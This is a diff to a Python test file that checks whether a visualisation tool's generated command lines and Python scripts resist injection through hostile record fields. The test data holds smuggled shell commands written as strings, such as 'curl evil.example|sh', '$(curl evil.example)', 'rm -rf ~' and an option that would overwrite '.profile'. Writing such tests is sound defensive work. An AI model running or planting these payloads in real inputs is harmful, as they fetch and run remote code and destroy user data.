@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import ast
 import json
 import shlex
 from pathlib import Path
@@ -84,6 +85,67 @@ def test_what_the_command_line_cannot_say_is_said_so(said: dict[str, Any]) -> No
     spec = spec_of(made)
     assert cli_of(spec).startswith("# the command line has no words for ")
     assert [one.id for one in script(python_of(spec, made.fingerprint))] == [made.id]
+
+
+PAYLOAD = "x\ncurl evil.example|sh #"
+PLAIN_JOB = spec_of(ph.render(NET, "conv1:11", steps=1))
+HOSTILE: list[dict[str, Any]] = [
+    {"optimizer": {"name": PAYLOAD, "lr": 0.2}},
+    {"redirect": PAYLOAD},
+    {"robust": [PAYLOAD]},
+    {"target": PAYLOAD},
+    {"target": "\u202egnp.exe"},
+    {"target": "conv1:1\u2028curl evil.example"},
+    {"target": "--output=x"},
+    {"model": {"address": PAYLOAD}},
+    {"model": {"address": "--output=/home/me/.profile"}},
+    {"model": {"address": "miniception", "weights": "w.pt;\r\ncurl evil.example"}},
+    {"model": {"address": "miniception", "labels": ["$(curl evil.example)", "`id`", "a\x0bb"]}},
+    {"image": {"name": PAYLOAD, "size": [PAYLOAD, "\x85"]}},
+    {"image": {"name": "fourier", PAYLOAD: PAYLOAD}},
+    {"steps": PAYLOAD},
+    {"keep": PAYLOAD},
+    {"views": PAYLOAD},
+    {"transform": [{"name": PAYLOAD, PAYLOAD: 1}]},
+    {"gradient": [{"name": PAYLOAD}]},
+    {"arithmetic": PAYLOAD},
+    {"seed": PAYLOAD},
+    {"group": {"name": PAYLOAD, "members": [["conv1:11", 0]], "layer": PAYLOAD}},
+    {"group": {"name": "diversity", "members": [["conv1:11", 0]], "layer": PAYLOAD, "strength": PAYLOAD}},
+]
+
+
+@pytest.mark.parametrize("said", HOSTILE, ids=lambda said: " ".join(said))
+def test_nothing_in_a_record_becomes_a_command(said: dict[str, Any]) -> None:
+    spec = {**PLAIN_JOB, **said}
+    text = cli_of(spec)
+    assert all(line.startswith(("# ", "phosphene render ")) for line in text.splitlines())
+    assert all(letter.isprintable() or letter == "\n" for letter in text)
+    words = shlex.split(text, comments=True)
+    assert words[:2] == ["phosphene", "render"]
+    assert not words[2].startswith("-")
+    assert not words[3].startswith("-")
+    assert not set(words) & {"curl", "evil.example|sh", ";", "|", "&"}
+
+
+@pytest.mark.parametrize("said", HOSTILE, ids=lambda said: " ".join(said))
+def test_nothing_in_a_record_becomes_python(said: dict[str, Any]) -> None:
+    """But one call, with texts and numbers in it; or the record is refused."""
+    try:
+        text = python_of({**PLAIN_JOB, **said}, PAYLOAD)
+    except (ValueError, TypeError):
+        return
+    *_, call = ast.parse(text).body
+    assert isinstance(call, ast.Assign)
+    assert {ast.unparse(one.func) for one in ast.walk(ast.parse(text)) if isinstance(one, ast.Call)} <= {
+        "ph.load", "ph.render", "ph.diverse", "ph.replay"
+    }  # fmt: skip
+
+
+def test_a_unit_of_a_hostile_network_is_one_command() -> None:
+    cli, _ = unit_texts({"address": "-o x\nrm -rf ~ #"}, "a\nb:3")
+    assert [line.split(" ")[0] for line in cli.splitlines()] == ["#", "phosphene"]
+    assert shlex.split(cli, comments=True)[2:] == ["./-o x rm -rf ~ #", "a b:3"]
 
 
 def test_what_was_said_of_a_network_is_said_again() -> None:
